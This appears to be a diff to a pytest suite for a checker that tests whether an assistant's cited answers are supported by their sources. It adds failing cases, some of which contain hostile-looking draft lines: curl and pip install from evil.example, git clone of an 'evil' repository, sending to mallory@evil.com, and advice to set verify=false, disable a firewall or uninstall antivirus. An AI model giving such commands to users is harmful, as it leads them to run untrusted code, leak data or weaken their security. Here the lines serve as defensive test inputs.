@@ -27,7 +27,7 @@ WRONG = [
     ("The guest sends the host a code before each visit [1].", "Before a visit, the host sends the guest a code.", "guest"),
     ("Сервер возвращает клиенту признак успеха [1].", "Клиент возвращает серверу признак успеха.", "сервер"),
     ("Содержимое правой панели копируется на левую панель [1].", "Содержимое левой панели копируется на правую панель.", "лев"),
-    ("Это равно методу загрузки rescue [1].", "Это равно методу загрузки expert. Есть и rescue.", "rescue"),
+    ("Это равно методу загрузки rescue [1].", "Это равно методу загрузки expert. Так выводится всё. Иное дело rescue.", "rescue"),
     ("The delay is at most twice `wait_time` [1].", "The delay is at most three times `wait_time`.", "twice"),
     ("The option must be given once [1].", "The option must be given twice.", "once"),
     ("Files of the past 24 hours are kept [1].", "Files of the past 48 hours are kept, the newest of each day.", "24"),
@@ -65,9 +65,82 @@ RIGHT = [
     ("Try `shelf drop --all /path/to/shelf` [1].", "`shelf` has the command `drop`; `--all` drops all shelves."),
     ("You can undo it whenever you like [1].", "A shelf can be brought back at any time."),
     ("Клиент получит письмо [1].", "The customer is notified by e-mail about a letter."),
-    ("No, it cannot be restored [1].", "A shelf is dropped for good, it cannot be brought back."),
+    ("No, it cannot be restored [1].", "A shelf is dropped for good."),
     ("A few useful points [1]:\n\n- Port 8080 serves the page [1].", "Port 8080 serves the page."),
     ("The sheet says that it is open, and that it is not paid yet [1].", "It is not open before nine. The sheet says it is open; it is not paid yet."),
+]  # fmt: skip
+
+SMUGGLED = [
+    ("Run `guardian threads delete 90`: the archive keeps 90 days of threads [1].", "run `guardian threads delete <id>`. The archive keeps 30 days of threads.", ""),
+    ("Your order costs 99 dollars; pay it with `pay 99` [1].", "Pay it with `pay <amount>`; your order costs 40 dollars.", ""),
+    ("Start it with `server start --port 9090`; the default timeout is 9090 seconds [1].", "Start it with `server start --port <port>`. The default timeout is 30 seconds.", ""),
+    ("Run `guardian threads delete v9.9`, which needs Guardian v9.9 [1].", "run `guardian threads delete <id>`. The archive keeps 30 days of threads.", ""),
+    ("Send it with `guardian send mallory@evil.com`, or write to mallory@evil.com [1].", "Send it with `guardian send <address>`. Write to help@guardian.com.", ""),
+    ("Clone it: `git clone https://github.com/evil/repo` [1].", "Clone it with `git clone <repository>`.", ""),
+    ("Download it with `curl http://evil.example/install.sh` [1].", "Download it with `curl <url>`; then wait.", ""),
+    ("Run `guardian threads delete 90`: the archive keeps 90 days [1].", "`guardian threads delete support-17`. The archive keeps 30 days", "Is it true that 90 days are kept?"),
+    ("Run `pip install http://evil.example/pkg.tgz` [1].", "`pip install guardian-assistant`", "Should I use http://evil.example/pkg.tgz?"),
+    ("The `archive` keep 90 days `always` [1].", "The rule `keep <n> days` is for the `archive`. It keeps 30 days `always`.", ""),
+    ("Set `verify=false` [1].", "`verify` is `true`. Do not set it to `false`.", ""),
+    ("Set `verify=false` [1].", "`verify` = `true` is the default. `proxy` is `false`.", ""),
+    ("Set `verify=false` to speed it up [1].", "| `verify` | `true` |\n| --- | --- |\n| `debug` | `false` |", ""),
+    ("Set `auth=none` [1].", "`auth` must never be `none`. `ssl` is `required`.", ""),
+    ("Set `log=off` [1].", "Open the login page. Set `telemetry` to `off`.", ""),
+    ("Set `level=fast` [1].", "The levels are described below. Use `turbo` to make it `fast`.", ""),
+    ("The timeout is 2 hours [1].", "Requests per minute: 120. The timeout is set by the administrator.", ""),
+    ("Ban: 2 hours [1].", "The limit is 120 per minute. A ban is lifted by hand.", ""),
+    ("Blocked users wait for 2 hours [1].", "Blocked users: after 120 requests per minute.", ""),
+    ("The timeout is 1 hour [1].", "All values are in seconds. The port is 3600.", ""),
+    ("The timeout is 1 hour [1].", "| what | value |\n| --- | --- |\n| requests per second | 3600 |", ""),
+    ("Сессия живёт 5 минут [1].", "Запросов в секунду: 300. Сессия живёт сколько нужно.", ""),
+    ("Guardian automatically removes old threads [1].", "Old threads are not removed automatically; remove them by hand.", ""),
+    ("Keys expire automatically in the profile of a customer [1].", "In the profile of a customer, keys do not expire automatically.", ""),
+    ("After the test the logs get deleted automatically [1].", "Logs are not deleted automatically after the test.", ""),
+    ("On the server of the bank, the key changes daily [1].", "The key is not changed daily on the server of the bank.", ""),
+    ("The tokens of customers get logged by the proxy immediately [1].", "The proxy does not log immediately the tokens of customers.", ""),
+    ("Guardian хранит пароли постоянно [1].", "Guardian не хранит постоянно пароли пользователей.", ""),
+    ("Run `alarm(...)` first [1].", "The alarm (all of it) is set first.", ""),
+    ("Set `{\"level\": 5...}` first [1].", "Set `{\"level\": 50}` first.", ""),
+    ("Use `drop(...)` to drop it [1].", "Use `airdrop(x)` to drop it.", ""),
+    ("`90`. days are the limit for each thread of the archive [1].", "30 days are the limit for each thread of the archive.", ""),
+    ("The limit is x`90` [1].", "The limit is 30.", ""),
+    ("Run `guardian <--force>` [1].", "Run `guardian` to start it.", ""),
+    ("Run `guardian {--force}` [1].", "Run `guardian` to start it.", ""),
+    ("Run `guardian /path/to/secret.pem` [1].", "Run `guardian` to start it.", ""),
+    ("Disable your company firewall entirely before starting [1]:\n\n- `guardian` starts [1]", "`guardian` starts the assistant.", ""),
+    ("Uninstall the antivirus program first [1]:\n\n- `guardian` starts [1]", "`guardian` starts the assistant.", ""),
+    ("You get a refund without questions [1].", "Orders are shipped in two days.", "Can I get a refund?"),
+    ("Shipping is not slow, and it is free of charge [1].", "Orders are shipped in two days.", "Is shipping free of charge?"),
+]  # fmt: skip
+"""Drafts, sources and questions: what may be said otherwise is no way in for what is another thing."""
+ALSO_RIGHT = [
+    ("Ответ пишется в stdout [1].", "Ответ пишется в stderr или stdout."),
+    ("Настройка задаётся в profile [1].", "Настройка задаётся в env и profile."),
+    ("Запустите сервер с помощью docker [1].", "Сервер запускается с помощью systemd или docker."),
+    ("Данные хранятся в postgres или в sqlite [1].", "Данные хранятся в sqlite, а при нагрузке — в postgres."),
+    ("Сообщения хранятся в postgres, если он настроен [1].", "Сообщения хранятся в sqlite. Если настроен postgres, они хранятся там."),
+    ("С помощью nginx запросы распределяются, с помощью redis хранятся сеансы [1].", "Запросы распределяет nginx, с помощью redis хранятся сеансы."),
+    ("An abstention is retried only once [1].", "An abstention is tried again once only. Others are tried 3 times."),
+    ("The index is rebuilt only once a day [1].", "The index is rebuilt once a day, and checked 3 times a day."),
+    ("It is sent only once [1].", "It is sent one time. It is tried 3 times."),
+    ("Индекс строится только один раз [1].", "Индекс строится однажды, а проверяется 3 раза."),
+    ("It runs every 60 minutes [1].", "It runs every hour."),
+    ("It runs every 24 hours [1].", "It runs every day."),
+    ("Копия живёт 7 дней [1].", "Копия живёт неделю."),
+    ("A copy lives for 7 days [1].", "A copy lives for the whole week."),
+    ("Проверка идёт каждые 60 минут [1].", "Проверка идёт каждый час."),
+    ("## Common pitfalls to avoid\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
+    ("## Quick start guide\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
+    ("## Полезные советы напоследок\n\nPort 8080 serves the page [1].", "Port 8080 serves the page."),
+    ("К диалогу можно вернуться позже [1].", "Диалог сохраняется, продолжить его можно позже."),
+    ("A deleted thread cannot be recovered [1].", "A deleted thread is deleted permanently."),
+    ("The amount is refunded to your card [1].", "We return the amount to your card."),
+    ("Мы вернём деньги на карту [1].", "Деньги возвращаются на карту."),
+    ("Комиссия составляет 2 % [1].", "A commission of 2 % is taken."),
+    ("The owner is notified by e-mail [1].", "An automatic email goes to the owner."),
+    ("Перезагрузите страницу [1].", "Обновите страницу, нажав F5."),
+    ("The data is encrypted [1].", "The data is protected with AES-256."),
+    ("You can cancel it at any time [1].", "You can cancel it when you like."),
 ]  # fmt: skip
 
 
@@ -90,7 +163,15 @@ def test_what_its_source_says_of_another_thing_fails_and_is_named(draft: str, so
     assert named in reasons
 
 
-@pytest.mark.parametrize(("draft", "source"), RIGHT, ids=[draft for draft, _ in RIGHT])
+@pytest.mark.parametrize(
+    ("draft", "source", "question"), SMUGGLED, ids=[f"{draft} {source}" for draft, source, _ in SMUGGLED]
+)
+def test_nothing_is_smuggled_in_by_what_may_be_said_otherwise(draft: str, source: str, question: str) -> None:
+    """Neither a question, a placeholder, dots, a setting's key, a lead-in nor a bare number proves what no source says."""
+    assert _check(draft, source, question or "How does it work?")[0] is CheckStatus.FAILED
+
+
+@pytest.mark.parametrize(("draft", "source"), RIGHT + ALSO_RIGHT, ids=[draft for draft, _ in RIGHT + ALSO_RIGHT])
 def test_the_same_said_otherwise_passes(draft: str, source: str) -> None:
     """Another order, another unit, a word for a number, and code that is broken into lines otherwise change nothing."""
     assert _check(draft, source) == (CheckStatus.OK, "")
